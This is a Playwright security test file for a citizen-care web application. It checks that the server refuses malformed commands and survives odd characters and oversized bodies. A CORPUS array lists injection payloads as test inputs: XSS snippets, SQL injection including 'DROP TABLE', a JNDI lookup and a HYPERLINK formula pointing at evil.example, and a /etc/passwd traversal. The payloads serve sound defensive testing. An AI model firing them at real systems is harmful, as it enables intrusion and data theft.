import { randomUUID } from 'node:crypto';
import { expect, test } from '@playwright/test';
import {
  BoardSnapshot,
  CitizenDetail,
  COMMANDS,
  isCommandName,
  ROUTES,
  SearchResult,
  unpackCards,
} from '@samtavle/contracts';
import { inventedCpr } from '../support/invented-citizen.js';
import { patiently } from '../support/patience.js';
import { Server } from '../support/server.js';
import { done, type WireClient } from '../support/wire-client.js';
import { commandExamples } from './command-examples.js';
import { spoilt } from './spoilt.js';
import { enrolled, oneOfEachCapacity, placed, signedIn } from './team-at-work.js';
import { mayDo } from './who-may.js';

let server: Server;
let anne: WireClient;
test.beforeAll(async () => {
  server = await Server.start();
  anne = await signedIn(server, 'anne');
});
test.afterAll(() => server.stop());

/** Texts that have been something else than text somewhere. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "javascript:alert('1')",
  '</textarea><iframe srcdoc="<b>x">',
  '{{constructor.constructor("return 1")()}}',
  "' OR '1'='1",
  "Robert'); DROP TABLE element;--",
  '%27%20UNION%20SELECT%201--',
  '=HYPERLINK("http://evil.example","klik")',
  '${jndi:ldap://evil.example/x}',
  '../../../../etc/passwd',
  '&lt;b&gt;&#x27;\\u003c',
  'Æblegrød på Øen 😀 \\ "citat"',
];

test('security 21: no command takes what its contract does not say, and nothing of it is written', async () => {
  test.setTimeout(120_000);
  // One person asks only so fast: those who may do a thing take turns.
  const everybody = (await oneOfEachCapacity(server)).map((client) => ({ client, socket: client.socket() }));
  for (const { socket } of everybody) await socket.open();
  const before = await everythingWritten();
  const examples = commandExamples(anne.me.acting.memberId);
  let tried = 0;
  // Told once at the end: two thousand times it takes as long to expect as to ask.
  const wrong: string[] = [];
  for (const name of Object.keys(examples).filter(isCommandName)) {
    const { action, subject } = COMMANDS[name];
    const allowed = everybody.filter(({ client }) => mayDo(client.me.acting, action, subject));
    for (const { what, input } of spoilt(examples[name])) {
      const turn = allowed[tried % allowed.length];
      if (!turn) throw new Error(`nobody may ${name}`);
      const { client, socket } = turn;
      const envelope = { id: randomUUID(), input };
      tried += 1;
      const answer =
        tried % 2 === 0
          ? (await patiently(() => client.post(`/api/commands/${name}`, envelope))).json
          : (
              await patiently(async () => ({
                ack: (await socket.askAnything('command', { name, ...envelope })) as { error?: unknown },
              }))
            ).ack.error;
      // Which packages there are is the policy's business; a name that is none is no package.
      const codes = what.startsWith('package:') ? /invalid_input|not_found/ : /invalid_input/;
      const said = JSON.stringify(answer);
      if (!isRefusal(answer, codes)) wrong.push(`${name}, ${what}: ${said}`);
      if (said.length >= 4_000) wrong.push(`${name}, ${what}: the value is repeated`);
    }
  }
  for (const { socket } of everybody) socket.close();
  expect(wrong).toEqual([]);
  expect(tried).toBeGreaterThan(300);
  expect(await everythingWritten()).toEqual(before);
});

/** An error of one of these codes, and not silence. */
const isRefusal = (answer: unknown, codes: RegExp): boolean =>
  typeof answer === 'object' && answer !== null && 'error' in answer && codes.test(String(answer.error));

test('security 21: envelopes, routes and messages are as strict as commands', async () => {
  const before = await everythingWritten();
  const id = randomUUID();
  const input = commandExamples(anne.me.acting.memberId)['citizen.enrol'];
  const raw = (body: string) =>
    anne.call({
      method: 'POST',
      path: '/api/commands/citizen.enrol',
      headers: { 'content-type': 'application/json' },
      body,
    });
  const envelopes = [
    '',
    '{',
    'null',
    '[]',
    '"x"',
    '{"id":NaN,"input":{}}',
    '{"id":1e999,"input":{}}',
    JSON.stringify({ input }),
    JSON.stringify({ id: 'not-a-uuid', input }),
    JSON.stringify({ id, input, more: 1 }),
    `{"__proto__":{"id":"${id}"},"input":{}}`,
  ];
  for (const body of envelopes)
    expect(await raw(body), body).toMatchObject({ status: 400, json: { error: 'invalid_input' } });

  for (const [name, route] of Object.entries(ROUTES)) {
    if (route.access.kind !== 'action' || route.method !== 'POST' || !('input' in route)) continue;
    const who = route.access.action === 'read' ? await signedIn(server, 'ove') : await signedIn(server, 'karim');
    for (const wrong of [
      { unknown: 1 },
      { query: {} },
      { limit: 10_000 },
      { token: 'x'.repeat(100), skipErrors: 'yes' },
      [],
    ])
      expect(await patiently(() => who.post(route.path, wrong)), `${name} ${JSON.stringify(wrong)}`).toMatchObject({
        status: 400,
      });
  }
  const socket = anne.socket();
  await socket.open();
  for (const message of ['command', 'resume', 'presence'])
    for (const said of [
      undefined,
      null,
      'x',
      7,
      [],
      { cursor: {} },
      { citizen: 'x' },
      { name: 1 },
      { __proto__: null, constructor: {} },
    ])
      expect(await socket.askAnything(message, said), `${message} ${JSON.stringify(said)}`).toMatchObject({
        ok: false,
        error: { error: 'invalid_input' },
      });
  socket.close();
  expect(await everythingWritten()).toEqual(before);
});

test('security 18 and 19: markup and SQL in names and notes come back letter by letter, as JSON', async () => {
  test.setTimeout(60_000);
  for (const [at, text] of CORPUS.entries()) {
    const citizen = await enrolled(anne, {
      cpr: inventedCpr(2_000 + at),
      givenName: text.slice(0, 80),
      familyName: 'Test',
    });
    await placed(anne, citizen);
    done(await anne.command('element.write', { citizen, kind: 'note', category: 'mental_state', text }));
    const answer = await anne.get(`/api/citizens/${citizen}`);
    expect(answer.headers['content-type']).toBe('application/json; charset=utf-8');
    const { elements, card } = CitizenDetail.parse(answer.json);
    expect(elements.flatMap(({ content }) => (content.kind === 'note' ? content.text : []))).toEqual([text]);
    expect(card.name).toBe(`${text.slice(0, 80)} Test`);
    const found = await patiently(() => anne.post('/api/search', { query: text.slice(0, 80) }));
    expect(found.status, text).toBe(200);
    expect(
      SearchResult.parse(found.json).hits.map(({ id }) => id),
      text,
    ).toEqual([citizen]);
  }
  const board = BoardSnapshot.parse((await anne.get('/api/board')).json);
  const names = unpackCards(board.cards).map(({ name }) => name);
  expect(CORPUS.filter((text) => !names.includes(`${text.slice(0, 80)} Test`))).toEqual([]);
});

test('security 19: whatever is searched for is searched for as text', async () => {
  const officer = await signedIn(server, 'ove');
  for (const text of [...CORPUS, '%%%', '___', '\\\\\\', "'''", '"""', '$1 $2']) {
    const query = text.slice(0, 80);
    expect((await patiently(() => anne.post('/api/search', { query }))).status, text).toBe(200);
    const log = await patiently(() =>
      officer.post('/api/audit/search', { person: query, citizen: query.slice(0, 40) }),
    );
    expect(log, text).toMatchObject({ status: 200, json: { entries: [] } });
    expect((await patiently(() => anne.get(`/api/citizens/${encodeURIComponent(text)}`))).status, text).toBe(404);
  }
});

test('security 21: no character whatever makes the server stumble', async () => {
  const citizen = await enrolled(anne);
  const officer = await signedIn(server, 'ove');
  for (const text of [
    'a\u0000b',
    '\u0000\u0000\u0000',
    'a\ud800b',
    '\udfff\udfff\udfff',
    'a\u202eb',
    'a\ufeff\uffff',
  ]) {
    const consent = { citizen, package: 'PKG_DAILY', version: null, form: 'oral', oralReason: text, witness: text };
    const tries: [string, WireClient, string, unknown][] = [
      ['search', anne, '/api/search', { query: text.padEnd(3, 'x') }],
      ['log by person', officer, '/api/audit/search', { person: text }],
      ['log by citizen', officer, '/api/audit/search', { citizen: text }],
      ['consent', anne, '/api/commands/consent.give', command(consent)],
      ['consent package', anne, '/api/commands/consent.ask', command({ citizen, package: text, version: null })],
      ['note', anne, '/api/commands/element.write', command({ citizen, kind: 'note', category: 'housing', text })],
      [
        'name',
        anne,
        '/api/commands/citizen.enrol',
        command({ cpr: inventedCpr(2_500), givenName: text, familyName: text }),
      ],
      ['cpr', anne, '/api/commands/citizen.enrol', command({ cpr: text, givenName: 'Navn', familyName: 'Navn' })],
    ];
    for (const [what, who, path, body] of tries) {
      const { status, json } = await patiently(() => who.post(path, body));
      expect.soft(status, `${what} ${JSON.stringify(text)}: ${JSON.stringify(json).slice(0, 40)}`).toBeLessThan(500);
    }
  }
});

function command(input: unknown): unknown {
  return { id: randomUUID(), input };
}

test('security 33: more than 64 KB is not read, on either way, and the process goes on', async () => {
  const big = 'x'.repeat(70_000);
  const answer = await anne.post('/api/search', { query: big });
  expect(answer).toMatchObject({ status: 413, json: { error: 'payload_too_large' } });
  const socket = anne.socket();
  await socket.open();
  const closed = new Promise<void>((resolve) => socket.onClose.add(resolve));
  socket.tell('command', { name: 'element.write', id: randomUUID(), input: { text: big } });
  await closed;
  expect(server.isRunning).toBe(true);
  expect((await anne.get('/api/session')).status).toBe(200);
});

/** How many rows there are of everything a command can write. */
async function everythingWritten(): Promise<unknown> {
  const tables = [
    'citizen',
    'enrolment',
    'relation',
    'element',
    'element_version',
    'consent',
    'consent_event',
    'team_event',
  ];
  const { rows } = await server.owner.query(
    `SELECT ${tables.map((table) => `(SELECT count(*) FROM ${table}) AS ${table}`).join(', ')}`,
  );
  return rows;
}
